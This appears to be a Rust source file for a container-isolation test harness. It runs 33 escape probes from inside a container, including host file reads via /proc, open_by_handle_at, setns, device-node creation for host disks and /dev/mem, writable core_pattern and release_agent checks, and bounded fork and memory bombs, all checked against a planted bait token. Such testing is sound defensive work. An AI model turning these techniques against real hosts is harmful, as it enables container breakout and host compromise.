//! The attacker: this binary under another name, as the first process of a container.
//!
//! Each attempt is made by a child, so that one that is killed ends alone. It is written to get out, and to do no harm
//! where it does.

use std::ffi::{CString, OsString};
use std::fs::{self, File, OpenOptions};
use std::io::{Read, Write};
use std::net::TcpStream;
use std::os::fd::{AsRawFd, FromRawFd, OwnedFd};
use std::os::linux::net::SocketAddrExt;
use std::os::unix::fs::{MetadataExt, OpenOptionsExt};
use std::os::unix::net::{SocketAddr, UnixStream};
use std::path::{Path, PathBuf};

use nix::errno::Errno;
use nix::mount::{MsFlags, mount};
use nix::sched::{CloneFlags, setns, unshare};
use nix::sys::signal::Signal;
use nix::sys::stat::{Mode, SFlag, makedev, mknod};
use nix::sys::wait::{WaitStatus, waitpid};
use nix::unistd::{ForkResult, Pid, alarm, fork, pipe};

use super::bait::Told;
use super::{Attack, Outcome, tell};

/// Its file in the root file system.
pub const NAME: &str = "rt-attack";

/// The variable that tells it of the bait.
pub const BAIT: &str = "RT_ATTACK_BAIT";

/// The name of the process that is bait: it waits until its standard input ends.
pub const WAITS: &str = "rt-bait";

/// How many processes it tries to make.
pub const PROCESSES: u32 = 128;

/// How many bytes it tries to fill.
pub const MEMORY: u64 = 256 << 20;

/// How long an attempt may take, in seconds.
const LIMIT: u32 = 30;

/// What an attempt got hold of.
pub(super) enum Got {
    /// The kernel that runs it.
    Kernel(&'static str),
    /// Something of the host.
    Host(&'static str),
}

/// Why it got nowhere.
pub(super) enum Failed {
    /// The kernel's answer.
    Errno(Errno),
    /// Nothing was to be found.
    Nowhere(&'static str),
    /// It makes no sense here.
    Untried(&'static str),
}

impl From<Errno> for Failed {
    fn from(error: Errno) -> Self {
        Self::Errno(error)
    }
}

impl From<std::io::Error> for Failed {
    fn from(error: std::io::Error) -> Self {
        Self::Errno(Errno::from_raw(error.raw_os_error().unwrap_or(0)))
    }
}

/// An attempt.
pub(super) type Attempt = fn(&Told) -> Result<Got, Failed>;

/// The namespaces of a process.
pub(super) const NAMESPACE: &str = "a namespace";
/// The rules for devices.
const DEVICE_RULES: &str = "the device rules";
/// What hides the kernel's files.
const MASK: &str = "a mask";
/// What the kernel asks of everybody.
const KERNEL: &str = "the kernel";
/// The limits.
const LIMITS: &str = "the cgroup's limit";

const fn attack(id: &'static str, what: &'static str, wall: &'static str, run: Attempt) -> Attack {
    Attack {
        id,
        what,
        call: None,
        capability: None,
        wall,
        run,
    }
}

impl Attack {
    const fn by(self, call: &'static str) -> Self {
        Self {
            call: Some(call),
            ..self
        }
    }

    const fn with(self, capability: &'static str) -> Self {
        Self {
            capability: Some(capability),
            ..self
        }
    }
}

/// Every attack.
pub(super) const ATTACKS: [Attack; 33] = [
    attack(
        "host-file",
        "read a file of the host by its path, or through /proc",
        NAMESPACE,
        host_file,
    ),
    attack(
        "leaked-descriptor",
        "climb to the host's root from an open descriptor",
        "closed descriptors",
        leaked,
    ),
    attack(
        "host-handle",
        "open the host's root by its handle",
        KERNEL,
        host_handle,
    )
    .by("open_by_handle_at")
    .with("CAP_DAC_READ_SEARCH"),
    attack(
        "host-process",
        "see a process of the host",
        NAMESPACE,
        host_process,
    ),
    attack(
        "host-ptrace",
        "trace a process of the host",
        NAMESPACE,
        host_ptrace,
    )
    .by("ptrace")
    .with("CAP_SYS_PTRACE"),
    attack(
        "host-namespace",
        "enter a namespace of the host",
        NAMESPACE,
        host_namespace,
    )
    .by("setns")
    .with("CAP_SYS_ADMIN"),
    attack(
        "abstract-socket",
        "connect to an abstract socket of the host",
        NAMESPACE,
        abstract_socket,
    ),
    attack(
        "host-loopback",
        "connect to a port of the host's loopback device",
        NAMESPACE,
        host_loopback,
    ),
    attack(
        "host-vsock",
        "connect to the host by vsock",
        "the want of a listener",
        host_vsock,
    ),
    attack(
        "host-key",
        "read a key from the keyring of the host's user",
        KERNEL,
        host_key,
    )
    .by("keyctl"),
    attack(
        "disk",
        "read a disk of the host by its numbers",
        DEVICE_RULES,
        disk,
    )
    .by("mknod")
    .with("CAP_MKNOD"),
    attack(
        "memory-device",
        "open /dev/mem",
        DEVICE_RULES,
        memory_device,
    )
    .by("mknod")
    .with("CAP_MKNOD"),
    attack("port-device", "open /dev/port", DEVICE_RULES, port_device)
        .by("mknod")
        .with("CAP_MKNOD"),
    attack("log-device", "open /dev/kmsg", DEVICE_RULES, log_device)
        .by("mknod")
        .with("CAP_MKNOD"),
    attack(
        "kernel-memory",
        "read the kernel's memory from /proc/kcore",
        MASK,
        kernel_memory,
    ),
    attack(
        "core-pattern",
        "name a program that the kernel runs for a crash",
        MASK,
        core_pattern,
    ),
    attack(
        "modprobe-path",
        "name a program that the kernel runs for a module",
        MASK,
        modprobe_path,
    ),
    attack(
        "uevent-helper",
        "name a program that the kernel runs for a device",
        MASK,
        uevent_helper,
    ),
    attack(
        "release-agent",
        "name a program that the kernel runs for an empty cgroup",
        KERNEL,
        release_agent,
    )
    .by("mount")
    .with("CAP_SYS_ADMIN"),
    attack(
        "sysrq",
        "give the kernel an order by /proc/sysrq-trigger",
        MASK,
        sysrq,
    ),
    attack(
        "own-limits",
        "lift its own limits",
        "a read-only mount",
        own_limits,
    ),
    attack(
        "second-proc",
        "mount a procfs in which nothing is hidden",
        KERNEL,
        second_proc,
    )
    .by("mount"),
    attack("kernel-module", "load a module", KERNEL, kernel_module)
        .by("finit_module")
        .with("CAP_SYS_MODULE"),
    attack("kexec", "load another kernel", KERNEL, kexec)
        .by("kexec_load")
        .with("CAP_SYS_BOOT"),
    attack("clock", "set the clock", KERNEL, clock)
        .by("clock_settime")
        .with("CAP_SYS_TIME"),
    attack("io-ports", "reach the machine's ports", KERNEL, io_ports)
        .by("iopl")
        .with("CAP_SYS_RAWIO"),
    attack("bpf", "give the kernel a program", KERNEL, bpf)
        .by("bpf")
        .with("CAP_BPF"),
    attack(
        "perf",
        "watch the whole machine by perf events",
        KERNEL,
        perf,
    )
    .by("perf_event_open")
    .with("CAP_PERFMON"),
    attack(
        "fork-bomb",
        "make more processes than it may",
        LIMITS,
        fork_bomb,
    ),
    attack(
        "memory-bomb",
        "fill more memory than it may",
        LIMITS,
        memory_bomb,
    ),
    attack(
        "shared-memory",
        "fill the host's memory through /dev/shm",
        "the size of its tmpfs",
        shared_memory,
    ),
    attack(
        "io-uring",
        "have calls made behind the filter by io_uring",
        KERNEL,
        io_uring,
    )
    .by("io_uring_setup"),
    attack(
        "userfaultfd",
        "hold the kernel in a page fault",
        KERNEL,
        userfaultfd,
    )
    .by("userfaultfd")
    .with("CAP_SYS_PTRACE"),
];

/// Whether a process was called as the attacker, or as its bait; it then is that.
pub fn run(arguments: &[OsString]) -> bool {
    let name = arguments
        .first()
        .and_then(|name| Path::new(name).file_name());
    if name == Some(WAITS.as_ref()) {
        let _ = std::io::stdin().read_to_end(&mut Vec::new());
        return true;
    }
    if name != Some(NAME.as_ref()) {
        return false;
    }
    let told = std::env::var(BAIT)
        .ok()
        .and_then(|text| serde_json::from_str::<Told>(&text).ok());
    if let Some(told) = told {
        for attack in &ATTACKS {
            tell(attack.id, outcome(attack, &told));
        }
    }
    true
}

/// Makes an attempt in a child.
fn outcome(attack: &Attack, told: &Told) -> Outcome {
    let untried = |error: Errno| Outcome::Untried(format!("{error:?}"));
    let (reader, writer) = match pipe() {
        Ok(ends) => ends,
        Err(error) => return untried(error),
    };
    // SAFETY: this process has one thread.
    let child = match unsafe { fork() } {
        Ok(ForkResult::Parent { child }) => child,
        Ok(ForkResult::Child) => {
            drop(reader);
            alarm::set(LIMIT);
            let outcome = match (attack.run)(told) {
                Ok(Got::Kernel(what)) => Outcome::Kernel(what.to_owned()),
                Ok(Got::Host(what)) => Outcome::Host(what.to_owned()),
                Err(Failed::Errno(error)) => Outcome::Stopped(format!("{error:?}")),
                Err(Failed::Nowhere(what)) => Outcome::Stopped(what.to_owned()),
                Err(Failed::Untried(why)) => Outcome::Untried(why.to_owned()),
            };
            let text = serde_json::to_vec(&outcome).unwrap_or_default();
            let _ = File::from(writer).write_all(&text);
            std::process::exit(0);
        }
        Err(error) => return untried(error),
    };
    drop(writer);
    let mut text = Vec::new();
    let _ = File::from(reader).read_to_end(&mut text);
    let end = waitpid(child, None);
    match serde_json::from_slice(&text) {
        Ok(outcome) => outcome,
        Err(_) => match end {
            Ok(WaitStatus::Signaled(_, Signal::SIGALRM, _)) => {
                Outcome::Stopped("it hung".to_owned())
            }
            Ok(WaitStatus::Signaled(_, signal, _)) => Outcome::Stopped(signal.as_str().to_owned()),
            _ => Outcome::Untried("the attempt ended without a word".to_owned()),
        },
    }
}

/// Whether a file holds the word.
fn is_bait(path: &Path, told: &Told) -> Result<(), Failed> {
    let text = fs::read_to_string(path)?;
    if text == told.token {
        Ok(())
    } else {
        Err(Failed::Nowhere("another file"))
    }
}

/// The processes that it sees.
fn processes() -> impl Iterator<Item = u32> {
    let entries = fs::read_dir("/proc").into_iter().flatten().flatten();
    entries.filter_map(|entry| entry.file_name().to_str()?.parse().ok())
}

fn host_file(told: &Told) -> Result<Got, Failed> {
    let below = told.file.strip_prefix("/").unwrap_or(&told.file);
    let mut roots = vec![PathBuf::from("/")];
    // A link of /proc leads where its process is, not where we are.
    for pid in processes() {
        roots.push(format!("/proc/{pid}/root").into());
        roots.push(format!("/proc/{pid}/cwd/../../../../../../../..").into());
    }
    // Wherever the host's root may be mounted.
    let mounts = fs::read_to_string("/proc/self/mountinfo").unwrap_or_default();
    roots.extend(
        mounts
            .lines()
            .filter_map(|line| line.split(' ').nth(4))
            .map(PathBuf::from),
    );
    let mut last = Failed::Errno(Errno::ENOENT);
    for root in roots {
        match is_bait(&root.join(below), told) {
            Ok(()) => return Ok(Got::Host("a file of the host was read")),
            Err(error) => last = error,
        }
    }
    Err(last)
}

fn leaked(told: &Told) -> Result<Got, Failed> {
    let below = told.file.strip_prefix("/").unwrap_or(&told.file);
    let mut last = Failed::Nowhere("none is open");
    for entry in fs::read_dir("/proc/self/fd")?.flatten() {
        let up = entry.path().join("../../../../../../../../../../..");
        match is_bait(&up.join(below), told) {
            Ok(()) => return Ok(Got::Host("a descriptor led to the host's root")),
            // A descriptor of something else.
            Err(Failed::Errno(Errno::ENOTDIR)) => {}
            Err(error) => last = error,
        }
    }
    Err(last)
}

fn host_process(told: &Told) -> Result<Got, Failed> {
    let sees = processes().any(|pid| {
        let command = fs::read(format!("/proc/{pid}/cmdline")).unwrap_or_default();
        command
            .windows(told.token.len())
            .any(|part| part == told.token.as_bytes())
    });
    if sees {
        Ok(Got::Host("a process of the host is seen"))
    } else {
        Err(Failed::Errno(Errno::ESRCH))
    }
}

fn host_ptrace(told: &Told) -> Result<Got, Failed> {
    host_process(told)?;
    let pid = Pid::from_raw(told.pid as i32);
    nix::sys::ptrace::seize(pid, nix::sys::ptrace::Options::empty())?;
    let _ = nix::sys::ptrace::detach(pid, None);
    Ok(Got::Host("a process of the host was traced"))
}

fn host_namespace(told: &Told) -> Result<Got, Failed> {
    for pid in processes() {
        for (name, inode) in &told.namespaces {
            let path = format!("/proc/{pid}/ns/{name}");
            let own = fs::metadata(format!("/proc/self/ns/{name}"))?.ino();
            let is_the_hosts = fs::metadata(&path).is_ok_and(|file| file.ino() == *inode);
            // One that is shared with the host was asked for; other attempts tell what that gives.
            if is_the_hosts && own != *inode {
                setns(File::open(&path)?, CloneFlags::empty())?;
                return Ok(Got::Host("a namespace of the host was entered"));
            }
        }
    }
    Err(Failed::Errno(Errno::ESRCH))
}

fn says_the_word(mut stream: impl Read, told: &Told) -> Result<(), Failed> {
    let mut text = vec![0; told.token.len()];
    stream.read_exact(&mut text)?;
    if text == told.token.as_bytes() {
        Ok(())
    } else {
        Err(Failed::Nowhere("another listener"))
    }
}

fn abstract_socket(told: &Told) -> Result<Got, Failed> {
    let address = SocketAddr::from_abstract_name(told.socket.as_bytes())?;
    says_the_word(UnixStream::connect_addr(&address)?, told)?;
    Ok(Got::Host("a socket of the host answered"))
}

fn host_loopback(told: &Told) -> Result<Got, Failed> {
    says_the_word(TcpStream::connect(("127.0.0.1", told.port))?, told)?;
    Ok(Got::Host("a port of the host answered"))
}

fn host_vsock(_: &Told) -> Result<Got, Failed> {
    const HOST: u32 = 2;
    let mut last = Failed::Errno(Errno::EAFNOSUPPORT);
    for port in (1..=1100).chain([2375, 2376, 6443, 9999, 10250]) {
        // SAFETY: no memory is passed.
        let fd = Errno::result(unsafe { libc::socket(libc::AF_VSOCK, libc::SOCK_STREAM, 0) })?;
        // SAFETY: the kernel has just made this descriptor for us alone.
        let socket = unsafe { OwnedFd::from_raw_fd(fd) };
        match nix::sys::socket::connect(
            socket.as_raw_fd(),
            &nix::sys::socket::VsockAddr::new(HOST, port),
        ) {
            Err(error @ (Errno::ENODEV | Errno::EPERM)) => return Err(error.into()),
            Err(error) => last = error.into(),
            Ok(()) => {
                // Who is turned away reads the end at once; who is not may ask for something.
                let mut stream = File::from(socket);
                if stream.write_all(b"hello\n").is_ok()
                    && stream.read(&mut [0]).is_ok_and(|length| length > 0)
                {
                    return Ok(Got::Host("a listener of the host answered"));
                }
            }
        }
    }
    Err(last)
}

/// A system call that passes numbers alone.
fn call(number: libc::c_long, arguments: [i64; 4]) -> Result<i64, Errno> {
    let [a, b, c, d] = arguments;
    // SAFETY: whoever calls this passes no address of memory.
    Errno::result(unsafe { libc::syscall(number, a, b, c, d) })
}

fn host_key(told: &Told) -> Result<Got, Failed> {
    const USER: i64 = -4;
    const SESSION: i64 = -3;
    const LINK: i64 = 8;
    const SEARCH: libc::c_long = 10;
    const READ: libc::c_long = 11;
    let Some(key) = &told.key else {
        return Err(Failed::Untried("the host has no keyrings"));
    };
    // Who has the keyring in the session's possesses what is in it.
    call(libc::SYS_keyctl, [LINK, USER, SESSION, 0])?;
    let description = CString::new(key.as_str()).map_err(|_| Errno::EINVAL)?;
    // SAFETY: both strings end in NUL, and the kernel only reads them.
    let key = Errno::result(unsafe {
        libc::syscall(
            libc::SYS_keyctl,
            SEARCH,
            USER,
            c"user".as_ptr(),
            description.as_ptr(),
            0,
        )
    })?;
    let mut text = vec![0_u8; told.token.len()];
    // SAFETY: the kernel writes at most as many bytes as there are.
    Errno::result(unsafe {
        libc::syscall(libc::SYS_keyctl, READ, key, text.as_mut_ptr(), text.len())
    })?;
    if text == told.token.as_bytes() {
        Ok(Got::Host("a key of the host was read"))
    } else {
        Err(Failed::Nowhere("another key"))
    }
}

fn host_handle(told: &Told) -> Result<Got, Failed> {
    /// Kernel ABI: `struct file_handle` of a file system whose handles are an inode number and a generation.
    #[repr(C)]
    struct Handle {
        bytes: u32,
        kind: i32,
        inode: u32,
        generation: u32,
    }
    let mut handle = Handle {
        bytes: 8,
        kind: 1,
        inode: 2,
        generation: 0,
    };
    let mounts = fs::read_to_string("/proc/self/mountinfo").unwrap_or_default();
    let mut last = Errno::ESTALE;
    for point in mounts.lines().filter_map(|line| line.split(' ').nth(4)) {
        let Ok(mount) = File::open(point) else {
            continue;
        };
        // SAFETY: the handle has the length that it says, and the kernel only reads it.
        let opened = Errno::result(unsafe {
            libc::syscall(
                libc::SYS_open_by_handle_at,
                mount.as_raw_fd(),
                &raw mut handle,
                libc::O_PATH,
            )
        });
        match opened {
            Ok(root) => {
                let below = told.file.strip_prefix("/").unwrap_or(&told.file);
                if is_bait(
                    &Path::new(&format!("/proc/self/fd/{root}")).join(below),
                    told,
                )
                .is_ok()
                {
                    return Ok(Got::Host("the host's root was opened by its handle"));
                }
            }
            Err(error) => last = error,
        }
    }
    Err(last.into())
}

/// Makes a device node and opens it.
fn device(kind: SFlag, numbers: (u64, u64)) -> Result<File, Failed> {
    // Where the attacker can write at all.
    let mut last = Errno::EROFS;
    for directory in ["/dev", "/tmp", "/dev/shm"] {
        let path = format!("{directory}/rt-attack-device");
        match mknod(
            path.as_str(),
            kind,
            Mode::S_IRWXU,
            makedev(numbers.0, numbers.1),
        ) {
            Err(error) => last = error,
            Ok(()) => {
                let opened = OpenOptions::new()
                    .read(true)
                    .custom_flags(libc::O_NONBLOCK)
                    .open(&path);
                let _ = fs::remove_file(&path);
                return Ok(opened?);
            }
        }
    }
    Err(last.into())
}

fn disk(told: &Told) -> Result<Got, Failed> {
    let numbers = told.disk.ok_or(Failed::Untried("the host has no disk"))?;
    device(SFlag::S_IFBLK, numbers)?.read_exact(&mut [0; 512])?;
    // A machine has no disk of these numbers, unless it is the host's.
    Ok(Got::Host("a disk of the host was read"))
}

fn memory_device(_: &Told) -> Result<Got, Failed> {
    device(SFlag::S_IFCHR, (1, 1))?;
    Ok(Got::Kernel("the memory device was opened"))
}

fn port_device(_: &Told) -> Result<Got, Failed> {
    device(SFlag::S_IFCHR, (1, 4))?;
    Ok(Got::Kernel("the port device was opened"))
}

fn log_device(_: &Told) -> Result<Got, Failed> {
    device(SFlag::S_IFCHR, (1, 11))?;
    Ok(Got::Kernel("the kernel's log was opened"))
}

fn kernel_memory(_: &Told) -> Result<Got, Failed> {
    let mut file = File::open("/proc/kcore")?;
    match file.read(&mut [0; 64])? {
        // What is masked is empty.
        0 => Err(Failed::Nowhere("it is empty")),
        _ => Ok(Got::Kernel("the kernel's memory was read")),
    }
}

/// Opens a file of the kernel for writing, and writes nothing.
fn writable(path: &str, what: &'static str) -> Result<Got, Failed> {
    let file = OpenOptions::new().write(true).open(path)?;
    // A mask may be a device that swallows all.
    if file.metadata()?.is_file() {
        Ok(Got::Kernel(what))
    } else {
        Err(Failed::Nowhere("it is masked"))
    }
}

fn core_pattern(_: &Told) -> Result<Got, Failed> {
    writable(
        "/proc/sys/kernel/core_pattern",
        "core_pattern can be written",
    )
}

fn modprobe_path(_: &Told) -> Result<Got, Failed> {
    writable("/proc/sys/kernel/modprobe", "modprobe can be written")
}

fn uevent_helper(_: &Told) -> Result<Got, Failed> {
    writable("/sys/kernel/uevent_helper", "uevent_helper can be written")
}

fn sysrq(_: &Told) -> Result<Got, Failed> {
    writable("/proc/sysrq-trigger", "sysrq-trigger can be written")
}

fn release_agent(_: &Told) -> Result<Got, Failed> {
    let agent = "the release agent can be written";
    let below = fs::read_dir("/sys/fs/cgroup")
        .into_iter()
        .flatten()
        .flatten();
    for entry in below {
        let path = entry.path().join("release_agent");
        if let Some(Ok(got)) = path.to_str().map(|path| writable(path, agent)) {
            return Ok(got);
        }
    }
    // With a hierarchy of its own it would need nobody's mount.
    let here = Path::new("/dev/shm");
    unshare(CloneFlags::CLONE_NEWNS)?;
    mount(
        Some("cgroup"),
        here,
        Some("cgroup"),
        MsFlags::empty(),
        Some("memory"),
    )
    .or_else(|_| {
        mount(
            Some("cgroup"),
            here,
            Some("cgroup"),
            MsFlags::empty(),
            Some("none,name=rt-attack"),
        )
    })?;
    writable("/dev/shm/release_agent", agent)
}

fn own_limits(_: &Told) -> Result<Got, Failed> {
    let mut last = Failed::Errno(Errno::ENOENT);
    for path in [
        "/sys/fs/cgroup/pids.max",
        "/sys/fs/cgroup/memory.max",
        "/sys/fs/cgroup/cgroup.procs",
        "/sys/fs/cgroup/pids/pids.max",
        "/sys/fs/cgroup/memory/memory.limit_in_bytes",
        "/sys/fs/cgroup/devices/devices.allow",
    ] {
        match writable(path, "its own limits can be written") {
            Ok(got) => return Ok(got),
            Err(Failed::Errno(Errno::ENOENT)) => {}
            Err(error) => last = error,
        }
    }
    Err(last)
}

fn second_proc(_: &Told) -> Result<Got, Failed> {
    // Who may make a user namespace has all rights in it, and may mount in a mount namespace of its own.
    unshare(CloneFlags::CLONE_NEWUSER | CloneFlags::CLONE_NEWNS | CloneFlags::CLONE_NEWPID)
        .or_else(|_| unshare(CloneFlags::CLONE_NEWNS | CloneFlags::CLONE_NEWPID))?;
    // SAFETY: this process has one thread. A new pid namespace holds its children only.
    match unsafe { fork() }? {
        ForkResult::Child => {
            let mounted = mount(
                Some("proc"),
                Path::new("/dev/shm"),
                Some("proc"),
                MsFlags::empty(),
                None::<&str>,
            );
            let code = match mounted {
                Ok(()) if writable("/dev/shm/sys/kernel/core_pattern", "").is_ok() => 0,
                Ok(()) => 255,
                Err(error) => error as i32,
            };
            std::process::exit(code);
        }
        ForkResult::Parent { child } => match waitpid(child, None)? {
            WaitStatus::Exited(_, 0) => Ok(Got::Kernel(
                "a second procfs, with core_pattern to be written, was mounted",
            )),
            WaitStatus::Exited(_, 255) => Err(Failed::Nowhere("it can be read only")),
            WaitStatus::Exited(_, code) => Err(Errno::from_raw(code).into()),
            _ => Err(Failed::Nowhere("killed")),
        },
    }
}

fn kernel_module(_: &Told) -> Result<Got, Failed> {
    // What is asked first is the right to load one; that this is none is seen behind that.
    let file = File::open("/proc/self/exe")?;
    // SAFETY: the string ends in NUL, and the kernel only reads it.
    let loaded = Errno::result(unsafe {
        libc::syscall(libc::SYS_finit_module, file.as_raw_fd(), c"".as_ptr(), 0)
    });
    match loaded {
        Ok(_) | Err(Errno::ENOEXEC | Errno::EINVAL) => Ok(Got::Kernel("the kernel takes modules")),
        Err(error) => Err(error.into()),
    }
}

fn kexec(_: &Told) -> Result<Got, Failed> {
    // More segments than there can be: refused, but behind the question of the right.
    match call(libc::SYS_kexec_load, [0, 1 << 30, 0, 0]) {
        Ok(_) | Err(Errno::EINVAL) => Ok(Got::Kernel("the kernel takes another kernel")),
        Err(error) => Err(error.into()),
    }
}

fn clock(_: &Told) -> Result<Got, Failed> {
    let time = nix::time::clock_gettime(nix::time::ClockId::CLOCK_REALTIME)?;
    let now = libc::timespec {
        tv_sec: time.tv_sec(),
        tv_nsec: time.tv_nsec(),
    };
    // To what it says already.
    // SAFETY: the kernel only reads the structure.
    Errno::result(unsafe { libc::clock_settime(libc::CLOCK_REALTIME, &raw const now) })?;
    Ok(Got::Kernel("the clock was set"))
}

fn io_ports(_: &Told) -> Result<Got, Failed> {
    call(libc::SYS_iopl, [3, 0, 0, 0])?;
    Ok(Got::Kernel("the machine's ports are open"))
}

fn bpf(_: &Told) -> Result<Got, Failed> {
    /// Kernel ABI: the first fields of `union bpf_attr` for `BPF_MAP_CREATE`.
    #[repr(C)]
    struct Map {
        kind: u32,
        key_size: u32,
        value_size: u32,
        entries: u32,
    }
    let map = Map {
        kind: 2,
        key_size: 4,
        value_size: 4,
        entries: 1,
    };
    // SAFETY: the kernel only reads the structure, of the size given.
    Errno::result(unsafe { libc::syscall(libc::SYS_bpf, 0, &raw const map, size_of::<Map>()) })?;
    Ok(Got::Kernel("the kernel takes BPF"))
}

fn perf(_: &Told) -> Result<Got, Failed> {
    // Kernel ABI: `struct perf_event_attr` in its first version, of 64 bytes: the type, the size, the event.
    let mut attributes = [0_u32; 16];
    attributes[0] = 1; // PERF_TYPE_SOFTWARE, PERF_COUNT_SW_CPU_CLOCK
    attributes[1] = 64;
    let (every_process, first_processor) = (-1, 0);
    // SAFETY: the kernel reads the structure, of the size that it says.
    Errno::result(unsafe {
        libc::syscall(
            libc::SYS_perf_event_open,
            attributes.as_ptr(),
            every_process,
            first_processor,
            -1,
            0,
        )
    })?;
    Ok(Got::Kernel("the whole machine is watched"))
}

fn fork_bomb(_: &Told) -> Result<Got, Failed> {
    let mut children = Vec::new();
    let mut result = Ok(Got::Kernel("processes without a limit were made"));
    for _ in 0..PROCESSES {
        // SAFETY: this process has one thread.
        match unsafe { fork() } {
            Ok(ForkResult::Child) => loop {
                nix::unistd::pause();
            },
            Ok(ForkResult::Parent { child }) => children.push(child),
            Err(error) => {
                result = Err(error.into());
                break;
            }
        }
    }
    for child in children {
        let _ = nix::sys::signal::kill(child, Signal::SIGKILL);
        let _ = waitpid(child, None);
    }
    result
}

fn memory_bomb(_: &Told) -> Result<Got, Failed> {
    // Each page has to be there: one that was never written is none.
    let mut pages: Vec<Vec<u8>> = Vec::new();
    let mut filled = 0;
    while filled < MEMORY {
        let piece = 1 << 20;
        let mut page = Vec::new();
        page.try_reserve_exact(piece)
            .map_err(|_| Failed::Errno(Errno::ENOMEM))?;
        page.resize(piece, 1);
        pages.push(page);
        filled += piece as u64;
    }
    // They are in use until here.
    std::hint::black_box(&pages);
    Ok(Got::Kernel("memory without a limit was filled"))
}

fn shared_memory(_: &Told) -> Result<Got, Failed> {
    let path = "/dev/shm/rt-attack-memory";
    let mut file = File::create(path)?;
    let piece = vec![1; 1 << 20];
    let mut written = Ok(());
    for _ in 0..(MEMORY >> 20) {
        written = file.write_all(&piece);
        if written.is_err() {
            break;
        }
    }
    let _ = fs::remove_file(path);
    written?;
    Ok(Got::Kernel("a tmpfs without a size was filled"))
}

fn io_uring(_: &Told) -> Result<Got, Failed> {
    // Kernel ABI: `struct io_uring_params`, 120 bytes.
    let mut parameters = [0_u8; 120];
    // SAFETY: the kernel reads and writes the structure, of its size.
    Errno::result(unsafe { libc::syscall(libc::SYS_io_uring_setup, 1, parameters.as_mut_ptr()) })?;
    Ok(Got::Kernel("the kernel takes io_uring"))
}

fn userfaultfd(_: &Told) -> Result<Got, Failed> {
    call(libc::SYS_userfaultfd, [0; 4])?;
    Ok(Got::Kernel("faults of the kernel can be held"))
}
